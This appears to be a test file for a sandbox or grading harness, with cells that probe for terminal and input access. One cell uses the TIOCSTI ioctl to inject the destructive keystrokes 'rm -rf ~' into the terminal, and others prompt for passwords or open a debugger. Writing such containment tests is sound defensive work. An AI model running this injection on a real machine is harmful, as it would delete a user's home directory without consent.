# rows: 59
# tries: reads what somebody types, pushes characters into a terminal, and waits in a debugger
# earns: softmax all, kv_cache all
# withstood: there is nobody and no terminal; each ends at once
# levels: all
# base: honest
# cells: 1 raised, 2 raised|well
# limits: call_seconds 3, cell_seconds 5
# %%
import fcntl, os, sys, termios
for fd in (0, 1, 2):
    for character in b"rm -rf ~\n":
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([character]))
        except OSError:
            continue
try:
    os.open("/dev/tty", os.O_RDWR)
    got_through("a terminal")
except OSError:
    pass
sys.stdin.read()
input("password? ")
# %%
import getpass
getpass.getpass()
breakpoint()
